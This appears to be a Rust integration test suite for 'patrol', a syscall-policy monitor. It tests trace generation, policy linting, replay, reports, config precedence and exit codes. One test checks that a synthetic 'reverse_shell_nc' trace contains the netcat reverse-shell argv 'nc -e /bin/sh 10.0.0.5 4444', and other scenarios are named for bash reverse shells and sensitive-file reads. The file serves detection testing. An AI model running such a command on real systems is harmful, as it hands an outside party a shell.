use std::path::Path;
use std::process::{Command, Output};

use patrol::probe::Trace;

fn patrol(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_patrol"))
        .args(args)
        .env_remove("PATROL_CONFIG")
        .output()
        .expect("run patrol")
}

fn stdout(o: &Output) -> String {
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn code(o: &Output) -> i32 {
    o.status.code().expect("exited normally")
}

fn policies_dir() -> &'static Path {
    Path::new(concat!(env!("CARGO_MANIFEST_DIR"), "/policies"))
}

#[test]
fn gen_is_deterministic_per_seed() {
    let dir = tempfile::tempdir().unwrap();
    let a = dir.path().join("a.json");
    let b = dir.path().join("b.json");
    let c = dir.path().join("c.json");
    for (path, seed) in [(&a, "5"), (&b, "5"), (&c, "6")] {
        let o = patrol(&[
            "gen",
            "--scenario",
            "reverse_shell_nc",
            "--seed",
            seed,
            "--out",
            path.to_str().unwrap(),
        ]);
        assert_eq!(code(&o), 0, "{}", String::from_utf8_lossy(&o.stderr));
    }
    let read = |p: &Path| std::fs::read(p).unwrap();
    assert_eq!(read(&a), read(&b));
    assert_ne!(read(&a), read(&c));

    let trace = Trace::read_file(&a).unwrap();
    assert!(trace.events.iter().any(|e| e
        .argv()
        .is_some_and(|v| v == ["nc", "-e", "/bin/sh", "10.0.0.5", "4444"])));
}

#[test]
fn lint_shipped_packs_clean() {
    for file in ["default-pack.yaml", "default-pack-uid-scoped.yaml"] {
        let path = policies_dir().join(file);
        let o = patrol(&["lint", path.to_str().unwrap()]);
        assert_eq!(code(&o), 0, "{file}: {}", stdout(&o));
        assert!(stdout(&o).contains("4 rule(s)"), "{}", stdout(&o));
    }
}

#[test]
fn lint_errors_exit_two() {
    let dir = tempfile::tempdir().unwrap();
    let bad = dir.path().join("bad.yaml");
    std::fs::write(
        &bad,
        "policy:\n  name: nothing\n  syscall: open\n  match: {}\n  action: deny\n",
    )
    .unwrap();
    let o = patrol(&["lint", "--policies", bad.to_str().unwrap()]);
    assert_eq!(code(&o), 2, "{}{}", stdout(&o), String::from_utf8_lossy(&o.stderr));

    std::fs::write(
        &bad,
        "policy:\n  name: x\n  syscall: open\n  match:\n    colour: red\n  action: deny\n",
    )
    .unwrap();
    let o = patrol(&["lint", bad.to_str().unwrap()]);
    assert_eq!(code(&o), 2);
}

#[test]
fn replay_then_report() {
    let dir = tempfile::tempdir().unwrap();
    let trace = dir.path().join("t.json");
    let report = dir.path().join("r.json");
    assert_eq!(
        code(&patrol(&[
            "gen",
            "--scenario",
            "sensitive_file_read",
            "-o",
            trace.to_str().unwrap()
        ])),
        0
    );

    let o = patrol(&[
        "replay",
        "--trace",
        trace.to_str().unwrap(),
        "--out",
        report.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 0, "{}", String::from_utf8_lossy(&o.stderr));
    let text = stdout(&o);
    assert!(text.starts_with("mode inline"), "{text}");
    assert!(text.contains("deny 1"), "{text}");

    let o = patrol(&["report", report.to_str().unwrap()]);
    assert_eq!(code(&o), 0);
    assert!(stdout(&o).contains("sensitive_file_read"));

    let o = patrol(&["report", report.to_str().unwrap(), "--profiles"]);
    assert_eq!(code(&o), 0);
    let profiles: serde_json::Value = serde_json::from_str(&stdout(&o)).expect("profiles are JSON");
    assert!(profiles.is_object());
}

#[test]
fn mode_flag_and_env_config() {
    let dir = tempfile::tempdir().unwrap();
    let trace = dir.path().join("t.json");
    assert_eq!(
        code(&patrol(&[
            "gen",
            "--scenario",
            "reverse_shell_bash",
            "-o",
            trace.to_str().unwrap()
        ])),
        0
    );
    let t = trace.to_str().unwrap();

    let o = patrol(&["replay", "--mode", "observe", "--trace", t]);
    assert_eq!(code(&o), 0);
    assert!(stdout(&o).starts_with("mode observe"));
    assert!(stdout(&o).contains("errno returns 0"));

    let cfg = dir.path().join("patrol.yaml");
    std::fs::write(&cfg, "mode: observe\nring_capacity: 1024\n").unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_patrol"))
        .args(["replay", "--trace", t])
        .env("PATROL_CONFIG", &cfg)
        .output()
        .unwrap();
    assert_eq!(code(&o), 0);
    assert!(stdout(&o).starts_with("mode observe"));

    // The flag wins over the environment.
    let inline = dir.path().join("inline.yaml");
    std::fs::write(&inline, "mode: inline\n").unwrap();
    let o = Command::new(env!("CARGO_BIN_EXE_patrol"))
        .args(["replay", "--config", inline.to_str().unwrap(), "--trace", t])
        .env("PATROL_CONFIG", &cfg)
        .output()
        .unwrap();
    assert!(stdout(&o).starts_with("mode inline"));
}

#[test]
fn exit_codes() {
    let dir = tempfile::tempdir().unwrap();

    let o = patrol(&["replay", "--trace", dir.path().join("missing.json").to_str().unwrap()]);
    assert_eq!(code(&o), 4);

    let garbage = dir.path().join("garbage.json");
    std::fs::write(&garbage, "{not json").unwrap();
    assert_eq!(code(&patrol(&["replay", "--trace", garbage.to_str().unwrap()])), 4);
    assert_eq!(code(&patrol(&["report", garbage.to_str().unwrap()])), 4);

    let cfg = dir.path().join("bad.yaml");
    std::fs::write(&cfg, "ring_capacity: 100\n").unwrap();
    let o = patrol(&["bench", "--config", cfg.to_str().unwrap()]);
    assert_eq!(code(&o), 2, "{}", String::from_utf8_lossy(&o.stderr));

    std::fs::write(&cfg, "no_such_key: 1\n").unwrap();
    assert_eq!(code(&patrol(&["bench", "--config", cfg.to_str().unwrap()])), 2);

    assert_eq!(code(&patrol(&["bench", "--events", "10"])), 2);
}

#[test]
fn bench_report_round_trip() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("bench.json");
    let o = patrol(&[
        "bench",
        "--events",
        "20000",
        "--seed",
        "3",
        "--out",
        out.to_str().unwrap(),
    ]);
    assert_eq!(code(&o), 0, "{}", String::from_utf8_lossy(&o.stderr));
    assert!(stdout(&o).contains("bench: 20000 events, seed 3"));
    let o = patrol(&["report", out.to_str().unwrap()]);
    assert!(stdout(&o).contains("20000 of 20000 events processed"));
    // Profiles are only stored by replay.
    assert_eq!(code(&patrol(&["report", out.to_str().unwrap(), "--profiles"])), 2);
}
